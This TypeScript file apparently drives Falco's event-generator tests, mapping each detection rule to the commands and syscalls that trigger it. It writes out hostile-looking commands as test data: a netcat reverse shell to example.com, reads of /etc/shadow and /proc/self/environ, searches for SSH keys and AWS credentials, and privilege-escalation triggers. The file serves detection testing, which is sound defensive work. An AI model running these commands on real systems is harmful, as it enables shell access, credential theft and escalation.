// SPDX-License-Identifier: Apache-2.0
// The actions of Falco's event-generator as scenes: what each does, and where. An action is named after its
// rule. Those of `go` are performed by a static Go program, the others by the stage in C. An action does what
// it is said to do in Falco and nothing more, so that what else fires is the rules' own doing (ALSO). Most of
// those are done once more by whom the other rule lets pass (ALONE).
import { writeFileSync } from "node:fs";
import type { Line, Wings, Word } from "./falco-stage.js";

/**
 * The network in which they are performed has these addresses, which rules take for others than its own, and
 * somebody listens there.
 */
export const LISTENERS = [
  { address: "203.0.113.1", port: 443 },
  { address: "169.254.169.254", port: 80 },
];

export type Place =
  | "machine"
  | "container"
  | "container with SYS_ADMIN"
  | "privileged container"
  | "container without a seccomp profile";

export interface Action {
  name: string; // the rule's, without what is no letter or digit
  place: Place;
  off: string | null; // its rule, where the files switch it off
  scene(wings: Wings): Line[];
}

// Not by setuid(), which has a rule of its own.
const DAEMON: Line[] = [
  ["call", 119, 1, 1, 1], // setresgid
  ["call", 117, 1, 1, 1], // setresuid
];
const CWD = -100;
const [READ, CREATE] = [0, 0o1101];

// A program of that name, which does nothing more.
const exec =
  (name: string, ...args: Word[]) =>
  (wings: Wings): Line[] => [["proc", wings.program(name), name, ...args]];
// A chain of programs, each the parent of the next; the last plays `then`.
const chain =
  (names: readonly string[], then: Line[] = []) =>
  (wings: Wings): Line[] => [...names.map((name): Line => ["proc", wings.program(name), name]), ...then];
const asDaemon =
  (scene: (wings: Wings) => Line[]) =>
  (wings: Wings): Line[] => [["proc", wings.program("eg_daemon"), "eg_daemon"], ...DAEMON, ...scene(wings)];
const go =
  (action: string, { name = "eg_go", path = (wings: Wings): string => wings.room() } = {}) =>
  (wings: Wings): Line[] => [["proc", wings.program(name, "falco_actions"), name, action, path(wings)]];
const SHADOW_LATER: Line[] = [
  ["wait", 6000], // who is younger is still starting
  ["call", 257, CWD, "s/etc/shadow", READ],
];
const UDP: Line[] = [
  ["call", 41, 2, 2, 0],
  ["call", 42, "r0", "b02000016cb0071010000000000000000", 16],
];
const inHome = (action: string, name = "eg_go") => go(action, { name, path: (wings) => wings.outside("/home") });
const writeBelow = (folder: string) => go("Write", { path: (wings) => wings.outside(folder) });

const MACHINE: Record<string, (wings: Wings) => Line[]> = {
  CreateHardlinkOverSensitiveFiles: (wings) => [
    ["proc", wings.program("ln"), "ln", "-v", "/etc/shadow", "shadow_link"],
    ["call", 265, CWD, "s/etc/shadow", CWD, `s${wings.room()}/shadow_link`, 0],
  ],
  CreateSymlinkOverSensitiveFiles: (wings) => [
    ["proc", wings.program("ln"), "ln", "-s", "/etc", "etc_link"],
    ["call", 266, "s/etc", CWD, `s${wings.room()}/etc_link`],
  ],
  DbProgramSpawnedProcess: chain(["mysqld", "ls"]),
  DetectCryptoMinersUsingTheStratumProtocol: exec("echo", "-o", "stratum+tcp", "-u", "user", "-p", "pass"),
  ExecutionFromDevShm: exec("sh", "-c", "/dev/shm/eg.sh"),
  FilelessExecutionViaMemfdCreate: () => [["memory", "program"]],
  FindAwsCredentials: exec("find", "/tmp", "-maxdepth", "1", "-iname", ".aws/credentials"),
  LaunchSuspiciousNetworkToolOnHost: exec("nmap", "-sn", "172.17.0.1/32"),
  NonSudoSetuid: chain(
    ["child"],
    [
      ["call", 105, 1],
      ["call", 105, 0],
    ],
  ),
  PolkitLocalPrivilegeEscalationVulnerabilityCVE20214034: asDaemon(exec("pkexec")),
  PotentialLocalPrivilegeEscalationViaEnvironmentVariablesMisuse: (wings) => [
    ["proc", "/usr/bin/env", "env", "GLIBC_TUNABLES=glibc.malloc.check=1", wings.program("sh"), "-c", "id"],
  ],
  ProgramRunWithDisallowedHttpProxyEnv: (wings) => [
    ["proc", "/usr/bin/env", "env", "HTTP_PROXY=http://127.0.0.1:1", wings.program("curl"), "http://example.com"],
  ],
  PtraceAntiDebugAttempt: chain(["eg_debug"], [["call", 101, 0, 0, 0, 0]]),
  PtraceAttachedToProcess: chain(
    ["eg_debug"],
    [
      ["call", 39],
      ["call", 101, 16, "r0", 0, 0],
    ],
  ),
  ReadSensitiveFileTrustedAfterStartup: chain(["httpd"], SHADOW_LATER),
  RemoveBulkDataFromDisk: exec("shred", "-u", "eg_file"),
  RunShellUntrusted: chain(["httpd", "bash"]),
  ScheduleCronJobs: exec("crontab", "-l"),
  SearchPrivateKeysOrPasswords: exec("find", "/tmp", "-maxdepth", "1", "-iname", "id_rsa"),
  SetSetuidOrSetgidBit: (wings) => {
    const path = `${wings.room()}/eg_setuid`;
    return [
      ["proc", wings.program("chmod"), "chmod", "u+s", path],
      ["call", 257, CWD, `s${path}`, CREATE, 0o644],
      ["call", 268, CWD, `s${path}`, 0o4755],
    ];
  },
  SudoPotentialPrivilegeEscalation: asDaemon(exec("sudoedit", "-u", "daemon", "-s", "ls\\")),
  UnexpectedUDPTraffic: chain(["nc"], UDP),
  UserMgmtBinaries: chain(["vipw", "ls"]),
  ...Object.fromEntries(
    [
      "ChangeThreadNamespace",
      "ClearLogActivities",
      "CreateHiddenFilesOrDirectories",
      "DeleteOrRenameShellHistory",
      "DirectoryTraversalMonitoredFileRead",
      "ModifyShellConfigurationFile",
      "ReadSensitiveFileUntrusted",
      "UnprivilegedDelegationOfPageFaultsHandlingToAUserspaceProcess",
    ].map((name) => [name, go(name)]),
  ),
  AddingSshKeysToAuthorizedKeys: inHome("AddingSshKeysToAuthorizedKeys"),
  CreateFilesBelowDev: writeBelow("/dev"),
  DisallowedSSHConnectionNonStandardPort: go("DisallowedSSHConnectionNonStandardPort", { name: "ssh" }),
  InterpretedProcsInboundNetworkActivity: go("InterpretedProcsInboundNetworkActivity", { name: "lua" }),
  InterpretedProcsOutboundNetworkActivity: go("InterpretedProcsOutboundNetworkActivity", { name: "lua" }),
  JavaProcessClassFileDownload: go("JavaProcessClassFileDownload", { name: "java" }),
  MkdirBinaryDirs: go("MkdirBinaryDirs", { path: (wings) => wings.outside("/bin") }),
  ModifyBinaryDirs: go("ModifyBinaryDirs", { path: (wings) => made(wings.outside("/bin")) }),
  ReadShellConfigurationFile: go("ReadShellConfigurationFile", { path: (wings) => made(`${wings.room()}/.bashrc`) }),
  ReadSshInformation: inHome("ReadSshInformation"),
  SystemProcsNetworkActivity: go("SystemProcsNetworkActivity", { name: "sha1sum" }),
  WriteBelowBinaryDir: writeBelow("/bin"),
  WriteBelowEtc: writeBelow("/etc"),
  WriteBelowMonitoredDir: writeBelow("/lib"),
  WriteBelowRoot: writeBelow("/root"),
  WriteBelowRpmDatabase: writeBelow("/var/lib/rpm"),
};

// A file that is there before the scene.
function made(path: string): string {
  writeFileSync(path, "");
  return path;
}

const CONTAINER: Record<string, (wings: Wings) => Line[]> = {
  ContainerDriftDetectedChmod: go("ContainerDriftDetectedChmod"),
  ContainerDriftDetectedOpenCreate: go("ContainerDriftDetectedOpenCreate"),
  ContactEC2InstanceMetadataServiceFromContainer: go("ContactEC2InstanceMetadataServiceFromContainer"),
  DropAndExecuteNewBinaryInContainer: (wings) => [
    ["proc", wings.program("eg_dropper"), "eg_dropper"],
    ["call", 257, CWD, `s${wings.program("eg_dropper")}`, READ],
    ["call", 257, CWD, `s${DROPPED}`, CREATE, 0o755],
    ["call", 40, "r1", "r0", 0, SIZE_MAX], // sendfile
    ["call", 3, "r1"],
    ["proc", DROPPED, "eg_dropped"],
  ],
  DecodingPayloadInContainer: exec("bash", "-c", "echo", "ZWNobw==", "|", "base64", "-d"),
  KubernetesClientToolLaunchedInContainer: exec("kubectl"),
  LaunchIngressRemoteFileCopyToolsInContainer: exec("wget", "-V"),
  LaunchPackageManagementProcessInContainer: exec("apk", "version"),
  LaunchRemoteFileCopyToolsInContainer: exec("scp"),
  LaunchSuspiciousNetworkToolInContainer: exec("nmap", "-sn", "192.168.1.0/24"),
  ModifyContainerEntrypoint: go("ModifyContainerEntrypoint"),
  NetcatRemoteCodeExecutionInContainer: exec("nc", "-e", "/bin/sh", "example.com", 22),
  PacketSocketCreatedInContainer: go("PacketSocketCreatedInContainer"),
  SystemUserInteractive: asDaemon(exec("login")), // on a machine, login has a rule of its own
  ReadEnvironmentVariableFromProcFiles: chain(["cat"], [["call", 257, CWD, "s/proc/self/environ", READ]]),
};

const DROPPED = "/srv/eg_dropped";
const SIZE_MAX = 1 << 24;
const CLONE_NEWUSER = 0x10000000;

const ADMIN: Record<string, (wings: Wings) => Line[]> = {
  DetectReleaseAgentFileContainerEscapes: (wings) =>
    chain(["sh"], [["call", 257, CWD, `s${wings.room()}/release_agent`, CREATE, 0o644]])(wings),
};

const PRIVILEGED: Record<string, (wings: Wings) => Line[]> = {
  DebugfsLaunchedInPrivilegedContainer: exec("debugfs", "-V"),
  MountLaunchedInPrivilegedContainer: exec("mount", "-o", "ro"),
};

// Docker's profile refuses the call, and what another filter refuses is not seen.
const UNCONFINED: Record<string, (wings: Wings) => Line[]> = {
  ChangeNamespacePrivilegesViaUnshare: chain(["unshare"], [["call", 272, CLONE_NEWUSER]]),
};

const PLACES: readonly (readonly [Place, Record<string, (wings: Wings) => Line[]>])[] = [
  ["machine", MACHINE],
  ["container", CONTAINER],
  ["container with SYS_ADMIN", ADMIN],
  ["privileged container", PRIVILEGED],
  ["container without a seccomp profile", UNCONFINED],
];

// Rules that the files switch off.
const OFF: Readonly<Record<string, string>> = {
  ContainerDriftDetectedChmod: "Container Drift Detected (chmod)",
  ContainerDriftDetectedOpenCreate: "Container Drift Detected (open+create)",
  CreateHiddenFilesOrDirectories: "Create Hidden Files or Directories",
  InterpretedProcsInboundNetworkActivity: "Interpreted procs inbound network activity",
  InterpretedProcsOutboundNetworkActivity: "Interpreted procs outbound network activity",
  JavaProcessClassFileDownload: "Java Process Class File Download",
  ModifyContainerEntrypoint: "Modify Container Entrypoint",
  ReadShellConfigurationFile: "Read Shell Configuration File",
};

/**
 * Which rules beside its own an action fires in Falco too, since their conditions, as the official files have
 * them, describe the same deed. `isSameEvent`: with Falco's default, where the first rule that matches an
 * event is the only one, it is not told.
 */
export const ALSO: Readonly<Record<string, { rule: string; isSameEvent: boolean; reason: string }>> = {
  AddingSshKeysToAuthorizedKeys: {
    rule: "Write below monitored dir",
    isSameEvent: true,
    reason: "monitored_directory holds user_ssh_directory",
  },
  ContactEC2InstanceMetadataServiceFromContainer: {
    rule: "Contact cloud metadata service from container",
    isSameEvent: true,
    reason: "both ask for outbound and fd.sip 169.254.169.254 in a container",
  },
  DirectoryTraversalMonitoredFileRead: {
    rule: "Read sensitive file untrusted",
    isSameEvent: true,
    reason: "the path joins to /etc/shadow, and fd.name is the joined one",
  },
  NetcatRemoteCodeExecutionInContainer: {
    rule: "Launch Suspicious Network Tool in Container",
    isSameEvent: true,
    reason: "network_tool_binaries holds nc",
  },
  ReadSensitiveFileTrustedAfterStartup: {
    rule: "Read sensitive file untrusted",
    isSameEvent: true,
    reason: "httpd is in server_procs, and in no list of readers that the other rule trusts",
  },
  ReadSshInformation: {
    rule: "Write below monitored dir",
    isSameEvent: true,
    reason: "the file is opened O_RDWR below user_ssh_directory, which is monitored",
  },
  RunShellUntrusted: {
    rule: "Web Server Spawned Shell",
    isSameEvent: true,
    reason: "httpd is a web server and a protected spawner of shells",
  },
  UnexpectedUDPTraffic: {
    rule: "Launch Suspicious Network Tool on Host",
    isSameEvent: false,
    reason: "network_tool_binaries holds nc, and its exec is an event of its own",
  },
};

/**
 * The same deeds on the machine, call for call, by somebody whom the other rule lets pass and whom the
 * action's own rule does not ask about: they fire their own rule alone. Of ALSO two are missing. The rules of
 * the metadata services have one condition between them, and Netcat's own rule asks for a name that the other
 * lists.
 */
export const ALONE: Readonly<Record<string, { by: string; scene(wings: Wings): Line[] }>> = {
  AddingSshKeysToAuthorizedKeys: {
    by: "a program named cloud-init",
    scene: inHome("AddingSshKeysToAuthorizedKeys", "cloud-init"),
  },
  DirectoryTraversalMonitoredFileRead: {
    by: "a program named lsattr",
    scene: go("DirectoryTraversalMonitoredFileRead", { name: "lsattr" }),
  },
  ReadSensitiveFileTrustedAfterStartup: {
    by: "an httpd that qualys-cloud-ag started",
    scene: chain(["qualys-cloud-ag", "httpd"], SHADOW_LATER),
  },
  ReadSshInformation: { by: "a program named cloud-init", scene: inHome("ReadSshInformation", "cloud-init") },
  RunShellUntrusted: {
    by: "an httpd whose shell runs a healthcheck",
    scene: (wings) => [...chain(["httpd"])(wings), ["proc", wings.program("bash"), "bash", "healthcheck"]],
  },
  UnexpectedUDPTraffic: { by: "nc under Debian's own name for it, nc.openbsd", scene: chain(["nc.openbsd"], UDP) },
};

export const ACTIONS: readonly Action[] = PLACES.flatMap(([place, scenes]) =>
  Object.entries(scenes).map(([name, scene]) => ({ name, place, off: OFF[name] ?? null, scene })),
);
